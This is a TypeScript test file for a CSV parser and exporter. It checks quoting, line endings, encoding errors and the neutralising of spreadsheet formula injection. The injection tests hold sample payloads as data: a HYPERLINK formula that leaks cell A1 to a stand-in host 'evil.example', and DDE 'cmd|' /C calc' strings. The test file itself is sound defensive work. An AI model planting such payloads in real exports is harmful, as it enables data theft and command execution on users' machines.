import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { decodeCsv, formatCsvField, formatCsvRow, parseCsv } from './csv';

describe('parseCsv', () => {
  it('splits plain fields and records with CRLF, LF or CR', () => {
    expect(parseCsv('a,b\r\nc,d\ne,f\rg,h')).toEqual([
      ['a', 'b'],
      ['c', 'd'],
      ['e', 'f'],
      ['g', 'h'],
    ]);
  });

  it('reads quoted fields with commas, doubled quotes and line breaks', () => {
    expect(parseCsv('"Widget, large","He said ""hi""","line 1\r\nline 2"\r\n')).toEqual([['Widget, large', 'He said "hi"', 'line 1\r\nline 2']]);
  });

  it('drops a byte-order mark and blank lines, keeps empty fields', () => {
    expect(parseCsv('\uFEFFSKU,Name\r\n\r\nA-1,,\r\n\r\n')).toEqual([
      ['SKU', 'Name'],
      ['A-1', '', ''],
    ]);
  });

  it('handles a last record without a line break and a trailing empty field', () => {
    expect(parseCsv('a,')).toEqual([['a', '']]);
  });

  it('reports an unclosed quote with its line', () => {
    expect(() => parseCsv('a,b\n"c,d\ne')).toThrow('Line 2: a quoted field is never closed');
  });
});

describe('formatCsvRow', () => {
  it('quotes only fields that need it and round-trips through the parser', () => {
    const row = ['A-1', 'Widget, "large"', 'two\nlines', ' padded ', '', null, 12.5];
    const text = formatCsvRow(row);
    expect(text).toBe('A-1,"Widget, ""large""","two\nlines"," padded ",,,12.5\r\n');
    expect(parseCsv(text)).toEqual([['A-1', 'Widget, "large"', 'two\nlines', ' padded ', '', '', '12.5']]);
  });
});

/** What a spreadsheet sees in a cell: the field with its CSV quoting taken off. */
const shown = (field: string) => (field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field);
const FORMULA = /^[=+\-@\t\r\n]/;

describe('formula injection (issue 7, item 8)', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click me"")"`],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "\"'\r=1+1\""],
    ["'=already quoted", "''=already quoted"],
  ])('exports %j so that a spreadsheet shows it as text', (value, field) => {
    expect(formatCsvField(value)).toBe(field);
    expect(shown(field)).not.toMatch(FORMULA);
  });

  it('leaves ordinary text and numbers alone', () => {
    expect(formatCsvRow(["O'Brien", "'quoted'", 'a=b', '12.50', -3, 0])).toBe("O'Brien,'quoted',a=b,12.50,-3,0\r\n");
  });

  it('reads the neutralised cells back to the exact values, removing one quote only', () => {
    expect(parseCsv(`'=1+1,''=x,'-2+3,'plain,'\t=y,O'Brien\r\n`)).toEqual([['=1+1', "'=x", '-2+3', "'plain", '\t=y', "O'Brien"]]);
  });

  it('round-trips any value exactly, and no exported cell starts a formula', () => {
    const piece = fc.oneof(
      fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\r\n', "'", '"', ',', ' ', '\uFEFF', 'A1', '1'),
      fc.string({ unit: 'binary', maxLength: 6 }).map((s) => s.replace(/\0/g, '')),
    );
    const cell = fc.array(piece, { maxLength: 6 }).map((p) => p.join(''));
    const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }).filter((r) => !(r.length === 1 && r[0] === '')), { minLength: 1, maxLength: 5 });
    fc.assert(
      fc.property(rows, (table) => {
        for (const row of table) for (const value of row) expect(shown(formatCsvField(value))).not.toMatch(FORMULA);
        // As the export writes it: a byte-order mark first, then CRLF records, through UTF-8 bytes.
        const bytes = new TextEncoder().encode(`\uFEFF${table.map(formatCsvRow).join('')}`);
        expect(parseCsv(decodeCsv(bytes))).toEqual(table);
      }),
      { numRuns: 500 },
    );
  });
});

describe('files the database cannot hold (issue 7, item 1)', () => {
  it('refuses a NUL character, naming its line', () => {
    expect(() => parseCsv('SKU,Name\r\nA-1,Fine\r\nA-2,"Bad\nname\0here"\r\n')).toThrow(/^Line 4: the file contains a NUL character/);
  });

  it('refuses bytes that are not UTF-8, naming the line', () => {
    const enc = new TextEncoder();
    const bytes = new Uint8Array([...enc.encode('SKU,Name\r\nA-1,Café\r\nA-2,Caf'), 0xe9, ...enc.encode('\r\n')]);
    expect(() => decodeCsv(bytes)).toThrow(/^Line 3: the file is not UTF-8 text/);
    // A UTF-16 file, as Excel's "Unicode Text" saves it.
    expect(() => decodeCsv(new Uint8Array([0xff, 0xfe, 0x53, 0x00]))).toThrow(/^Line 1: the file is not UTF-8 text/);
    expect(decodeCsv(enc.encode('\uFEFFSKU,Name\r\nA-1,Café'))).toBe('SKU,Name\r\nA-1,Café');
  });
});
